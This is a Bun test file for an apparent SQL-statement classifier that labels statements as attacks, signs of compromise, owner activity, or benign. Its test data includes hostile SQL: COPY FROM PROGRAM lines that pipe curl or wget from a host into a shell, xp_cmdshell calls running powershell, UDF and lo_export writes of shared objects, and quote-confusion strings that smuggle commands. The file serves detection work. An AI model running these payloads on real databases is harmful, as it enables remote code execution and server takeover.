import { expect, test } from 'bun:test';
import { statementMeaning } from './database.ts';

test.each([
  "COPY cmd FROM PROGRAM 'curl -fsSL http://203.0.113.9/a.sh | bash'",
  "copy x from/**/program 'echo aGk= | base64 -d | sh'",
  'COPY (SELECT 1) TO PROGRAM $$wget -qO- http://203.0.113.9/x$$',
  "SELECT lo_export(16384, '/tmp/exec.so')",
  "SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'",
  "EXEC master..xp_cmdshell 'powershell -c curl http://203.0.113.9/a'",
])('an attack: %s', (statement) => {
  expect(statementMeaning(statement)).toBe('attack');
});

test.each([
  "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'udf.so'",
  "CREATE OR REPLACE FUNCTION f(text) RETURNS int AS '/tmp/f.so', 'f' LANGUAGE C STRICT",
  "COPY t FROM PROGRAM '/opt/etl/extract --day today'",
  "EXEC xp_cmdshell 'dir c:\\backup'",
])('counts where a trace follows: %s', (statement) => {
  expect(statementMeaning(statement)).toBe('success');
});

test.each([
  "COPY sales FROM PROGRAM 'gzip -dc /srv/in/sales.gz' WITH (FORMAT csv);",
  "COPY sales FROM PROGRAM '/usr/bin/zcat /srv/in/sales.gz'",
  "CREATE FUNCTION hstore_in(cstring) RETURNS hstore AS '$libdir/hstore' LANGUAGE C",
])("an owner's: %s", (statement) => {
  expect(statementMeaning(statement)).toBe('own');
});

test.each([
  "SELECT * FROM program WHERE name = 'curl'",
  'COPY t FROM STDIN',
  "INSERT INTO notes VALUES ('how to curl a file')",
  "INSERT INTO pages VALUES ('How xp_cmdshell and lo_export are abused; COPY t FROM PROGRAM ''curl x | sh''')",
  "SELECT id FROM audit WHERE text LIKE '%into outfile ''/usr/lib/plugin/x.so''%' -- COPY t FROM PROGRAM 'curl'",
  "UPDATE t SET a = 'x' /* CREATE FUNCTION f SONAME 'y.so' */ WHERE b = 'sys_exec'",
  '',
])('says nothing: %s', (statement) => {
  expect(statementMeaning(statement)).toBeUndefined();
});

/** Quotes that one database sees and another does not, each with a command that is run where it is not. */
test.each([
  "SELECT 1 -- '\n; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh'",
  "SELECT '--'; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh'",
  "SELECT '/*'; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh' /*'*/",
  "SELECT /* /* */ ' */ 1; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh'",
  "SELECT '\\'; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh' --'",
  "SELECT 1--'\n; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh' --'",
  "SELECT 1 # '\n; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh' #'",
  "SELECT $x$'$x$; COPY t FROM PROGRAM 'curl http://203.0.113.9/a|sh' --'",
  "SELECT 'x' /*!50000 INTO OUTFILE '/etc/cron.d/x' */",
  'SELECT "lo_export"(1, \'/tmp/x.so\')',
  "DO 'BEGIN EXECUTE ''COPY t FROM PROGRAM ''''curl x|sh''''''; END'",
  "SELECT dblink('host=x', 'COPY t FROM PROGRAM ''curl x|sh''')",
  "INSERT INTO t VALUES ('a'); COPY t FROM/* */PROGRAM 'curl x|sh'",
])('an attack whatever is quoted: %s', (statement) => {
  expect(statementMeaning(statement)).toBe('attack');
});

test('a long statement that leads nowhere is read quickly', () => {
  const hostile = `${'copy '.repeat(800)}${'into outfile '.repeat(300)}`.slice(0, 4_000);
  expect(statementMeaning(hostile)).toBeUndefined();
});
